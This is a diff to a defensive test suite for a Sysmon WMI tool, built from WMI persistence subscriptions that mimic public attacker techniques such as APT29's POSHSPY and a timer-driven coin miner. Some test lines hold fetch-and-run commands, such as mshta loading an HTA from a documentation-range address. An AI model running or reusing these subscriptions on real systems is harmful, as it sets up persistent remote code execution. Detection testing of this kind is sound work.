@@ -4,9 +4,10 @@
 export const ATTACK_SUITE_SOURCE = `# Attack subscriptions after public techniques: sysmon-wmi test sysmon.xml --suite attacks
 #
 # Each test is one permanent WMI event subscription as an attacker makes it, and stands for the three events that Sysmon
-# records of it: 19 (filter), 20 (consumer), 21 (binding). All are expected to be logged. Names, queries and the form of the
-# payloads follow public tools, reports and recorded events; the payloads themselves are cut short and do nothing.
-# Subscriptions outside root\\subscription are not here: Sysmon never sees them, whatever its configuration.
+# records of it: 19 (filter), 20 (consumer), 21 (binding). All are expected to be logged. They are written after public tools,
+# reports and recorded events; where those leave a name, a query or a command open, it is made up in the same manner, so this
+# is no list of indicators. The payloads are cut short and do nothing. Subscriptions outside root\\subscription are not here:
+# Sysmon never sees them, whatever its configuration.
 #
 # To change the suite, copy this file, add \`config: sysmon.xml\` at the top, and run: sysmon-wmi test --tests FILE
 tests:
@@ -295,7 +296,7 @@ tests:
           xml.open("GET", "http://192.0.2.10/feed", false);
     expect: logged
 
-  - name: APT29, POSHSPY on Mondays, Tuesdays and Thursdays
+  - name: APT29, POSHSPY at a set time on some weekdays
     technique: [T1546.003, T1059.001]
     source: https://attack.mitre.org/software/S0150/
     subscription:
@@ -419,7 +420,7 @@ tests:
         destination: GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create "mshta http://192.0.2.21/o.hta"
     expect: logged
 
-  - name: MyKings, script on a timer that fetches a miner
+  - name: Coin miner, script on a timer
     technique: [T1546.003, T1059.007, T1105]
     source: https://www.scworld.com/news/new-fileless-cryptocurrency-miner-abuses-wmi-leverages-eternalblue-windows-exploit
     subscription:
